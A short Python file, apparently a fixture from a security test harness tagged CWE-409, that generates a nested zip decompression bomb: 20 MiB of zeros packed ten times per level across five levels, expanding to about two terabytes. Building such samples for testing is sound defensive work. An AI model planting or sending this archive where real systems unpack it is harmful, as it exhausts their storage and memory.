"""Packs archives into archives into archives, each ten times."""

import io
import zipfile

PROMISE = 9
CLASS = "CWE-409: decompression bomb"


def work(desk, stage):
    content, name = bytes(20 << 20), "zeros.ipynb"
    for depth in range(5):
        content, name = packed(content, name), f"depth{depth}.zip"
    stage.archive_of(desk).write_bytes(content)


def packed(content, name):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            archive.writestr(f"{number}{name}", content)
    return buffer.getvalue()
